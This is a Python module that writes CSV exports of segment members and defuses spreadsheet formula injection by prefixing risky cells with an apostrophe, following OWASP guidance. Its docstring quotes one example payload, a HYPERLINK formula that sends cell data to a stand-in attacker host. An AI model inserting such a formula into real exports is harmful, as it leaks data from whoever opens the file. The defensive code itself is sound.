"""CSV exports of segment members: the one writer of the REST export and of the page's download.

A spreadsheet opening the file runs a cell starting with ``=``, ``+``, ``-`` or ``@``
as a formula, and some treat a leading tab or carriage return the same way: a user id
or a trait such as ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` sent by anyone
who can reach the tracking endpoint would run on the machine of whoever opens the
export. OWASP's rule (CSV Injection) is applied to every cell: one starting with such
a character is written with a leading ``'``, which spreadsheets show as text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> str:
    """The text of one cell, defused: ``None`` is empty; a formula-like start gets a leading ``'``."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Echo:
    """A file that hands back what is written to it, so that each row can be streamed as it is made."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: list[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The header then each row as one CSV line (RFC 4180 quoting), every cell through ``csv_cell``."""
    writer = csv.writer(_Echo())
    yield writer.writerow(header)
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])
